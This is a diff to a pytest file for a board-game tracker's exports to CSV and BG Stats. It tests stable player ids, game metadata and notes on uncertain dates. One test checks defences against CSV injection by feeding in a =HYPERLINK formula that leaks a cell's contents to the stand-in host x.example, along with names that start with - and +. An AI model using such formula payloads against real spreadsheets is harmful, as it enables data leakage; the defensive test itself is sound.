@@ -36,7 +36,7 @@ def test_bgstats_and_csv_parse_and_agree_with_history(state_dir):
     assert [(p["name"], p.get("role")) for p in play["players"]] == [("Player 1", "Caesar"), ("Auto-Crassus", None)]
     assert len(play["playDate"]) == 19 and play["playDate"][10] == " "
     for p in play["players"]:
-        assert set(p) <= {"name", "role", "winner", "startPlayer"}       # no score, no rank: abandoned
+        assert set(p) <= {"name", "sourcePlayerId", "role", "winner", "startPlayer"}   # no score, no rank: abandoned
 
     jc = json.loads(first["text"])
     assert jc["game"]["name"] == "Julius Caesar" and jc["sourcePlayId"] == "1"
@@ -183,3 +183,100 @@ def test_the_csv_opens_in_a_spreadsheet_with_cyrillic_and_one_column_per_mode_fl
     table = [r for r in rows if r["game"] == "glory"]
     assert all(r["mode.expansions.harsh"] == "1" and r["mode.players"] == "4" and r["mode.surprise"] == "" for r in table)
     assert {r["rank"] for r in table} <= {"1", "2", "3", "4"} and all(r["play_date"] for r in table)
+
+
+def test_no_csv_cell_a_player_typed_opens_as_a_formula_in_a_spreadsheet(state_dir):
+    # A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a name or a
+    # players' share typed at the table must open as the text it is (a leading apostrophe, as
+    # OWASP's CSV-injection guidance has it), while numbers stay numbers.
+    share = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    replies = run_console(state_dir, ["new jc-battle people=caesar:-A1,pompey:+B2", f"share {share}",
+                                      "add attacker c_leg10", "add defender p_leg1", "fight", "end",
+                                      "export format=csv", "export format=bgstats id=1"])
+    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
+    sheet, play = replies[-2], replies[-1]
+    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff"))))
+    assert {r["player"] for r in rows} == {"'-A1", "'+B2"}
+    assert {r["share"] for r in rows} == {"'" + share}
+    for r in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r.values()), r
+    assert all(r["score"].isdigit() for r in rows if r["status"] == "finished")     # numbers stay numbers
+    # BG Stats takes the names as they are (no spreadsheet there)
+    assert [p["name"] for p in play["play"]["players"]] == ["-A1", "+B2"]
+
+
+def test_a_person_is_one_player_of_bg_stats_across_games_spellings_and_renames(state_dir):
+    # BG Stats remembers which of its players a pushed player is by ``sourcePlayerId``: the same
+    # person must carry the same id in every export — whatever the letter case typed, after a
+    # rename, and once merged into another — or BG Stats counts one person as several.
+    glory = ["event", "end-round"] * 9 + ["score"]
+    replies = run_console(state_dir, [
+        "new glory players=Анна,Борис seed=1", *glory,                          # 1
+        "new jc-battle people=caesar:анна,pompey:Вера seed=4", "add attacker c_leg10",
+        "add defender p_leg1", "fight",                                         # 2 (and the campaign)
+        "export format=bgstats id=1", "export format=bgstats id=2",
+        "players rename Анна Аня", "players rename Вера Борис",                  # a rename, a merge
+        "new caesar-solo difficulty=easy people=caesar:Аня seed=5", "new dice",  # 3: abandoned
+        "export format=bgstats id=1", "export format=bgstats id=2", "export format=bgstats id=3",
+        "export format=csv"])
+    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
+
+    def ids(reply: dict) -> dict[str, str]:
+        play = reply["play"]
+        assert play == _decoded_link(reply["link"])
+        return {p["name"]: p["sourcePlayerId"] for p in play["players"]}
+    first, battle = ids(replies[-10]), ids(replies[-9])
+    assert first["Анна"] == battle["анна"]                              # one person, two spellings
+    assert first["Анна"] != first["Борис"] != battle["Вера"]
+    again, battle_again, solo = ids(replies[-4]), ids(replies[-3]), ids(replies[-2])
+    assert again == first                                               # the same after the rename
+    assert battle_again == {"анна": battle["анна"], "Вера": first["Борис"]}  # Вера was Борис all along
+    assert solo["Аня"] == first["Анна"]                                 # renamed: still her
+    assert solo["Auto-Crassus"] and "Auto-Crassus" not in (first | battle)
+    # the merge: Вера's later exports are Борис's; her earlier push keeps what it had
+    rows = list(csv.DictReader(io.StringIO(replies[-1]["text"].lstrip("\ufeff"))))
+    person = {(r["id"], r["player"]): r["player_id"] for r in rows}
+    assert person[("1", "Анна")] == person[("2", "анна")] == person[("3", "Аня")] == first["Анна"]
+    assert person[("2", "Вера")] == person[("1", "Борис")] == first["Борис"]
+
+
+def test_every_play_of_a_game_describes_the_game_alike_whether_finished_ended_or_abandoned(state_dir):
+    # ``game`` (highestWins, noPoints) describes the board game, which BG Stats creates from the
+    # first play pushed: a Caesar! game ended early must not tell it that Caesar! keeps no score
+    # (C-12: the markers placed are the score), or every later play's scores go unshown.
+    replies = run_console(state_dir, ["new caesar-solo difficulty=easy seed=3", "crassus", "end",
+                                      "new caesar-solo difficulty=easy seed=4",                   # abandoned
+                                      "new jc-battle seed=4", "add attacker c_leg10", "add defender p_leg1",
+                                      "end", "new dice",
+                                      "export format=bgstats id=1", "export format=bgstats id=2",
+                                      "export format=bgstats id=3"])
+    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
+    ended, abandoned, battle = (r["play"] for r in replies[-3:])
+    assert [p.get("score") for p in ended["players"] + abandoned["players"]] == [None] * 4
+    assert ended["game"] == abandoned["game"] and ended["game"]["noPoints"] is False
+    assert battle["game"]["noPoints"] is False and battle["game"]["highestWins"] is True
+
+
+def test_a_play_whose_date_was_taken_with_the_clock_unset_says_so_in_its_comments():
+    # A Pi with no network and no clock keeps the time of its last shutdown: History marks such a
+    # date (~23.11, "date uncertain"); the play pushed to BG Stats must say it too, in the
+    # language set, rather than give a wrong date as a sure one.
+    from firmware import export
+    from firmware.i18n import set_language
+    entry = {"id": 7, "game": "jc-battle", "name": "Julius Caesar", "status": "finished",
+             "started": "2026-03-01T18:00:05Z", "finished": "2026-03-01T18:47:40Z", "mode": {"kind": "battle"},
+             "players": [{"name": "Анна", "role": "caesar", "score": 3, "winner": True, "startPlayer": True},
+                         {"name": "Pompey", "role": "pompey", "score": 0, "winner": False, "startPlayer": False}],
+             "result": "Battle 1.", "unsynced": [], "seed": None}
+    assert export.bgstats_play(entry)["comments"] == "Battle 1."                 # a clock set: nothing said
+    try:
+        for lang, word in (("en", "clock"), ("ru", "часы"), ("uk", "годинник")):
+            set_language(lang)
+            for changed in ({"unsynced": ["started", "finished"]}, {"unsynced": ["started"]},
+                            {"unsynced": ["finished"], "started": None}):        # playDate: the finish
+                comments = export.bgstats_play({**entry, **changed})["comments"]
+                assert comments.startswith("Battle 1. ") and word in comments.lower(), (lang, comments)
+            # the start (playDate) was taken with the clock set: the date is sure
+            assert export.bgstats_play({**entry, "unsynced": ["finished"]})["comments"] == "Battle 1."
+    finally:
+        set_language("en")
